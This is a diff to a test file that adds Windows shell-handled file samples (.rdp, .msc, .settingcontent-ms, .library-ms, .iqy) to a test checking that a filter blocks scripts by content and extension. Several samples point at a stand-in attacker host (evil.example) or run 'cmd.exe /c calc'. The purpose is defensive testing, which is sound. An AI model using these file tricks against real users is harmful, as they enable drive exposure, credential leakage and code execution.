@@ -189,6 +189,14 @@ def test_mismatched_name_is_corrected_on_delivery(tmp_path: Path) -> None:
     ("run.bat", b"@echo off\r\n"),
     ("memo.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
     ("notes", b"powershell -EncodedCommand SQBFAFgA\n"),
+    # text files the Windows shell acts on by their extension
+    ("会議.rdp", b"full address:s:rdp.evil.example\r\nredirectdrives:i:1\r\n"),
+    ("console.msc", b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>'),
+    ("settings.settingcontent-ms", b'<?xml version="1.0"?><PCSettings><DeepLink>'
+                                   b"cmd.exe /c calc</DeepLink></PCSettings>"),
+    ("資料.library-ms", b'<?xml version="1.0"?><libraryDescription><url>'
+                       b"\\\\evil.example@80\\share</url></libraryDescription>"),
+    ("web.iqy", b"http://evil.example/q\r\n"),
 ])
 def test_scripts_are_blocked_by_content_and_extension(tmp_path: Path, name: str,
                                                        data: bytes) -> None:
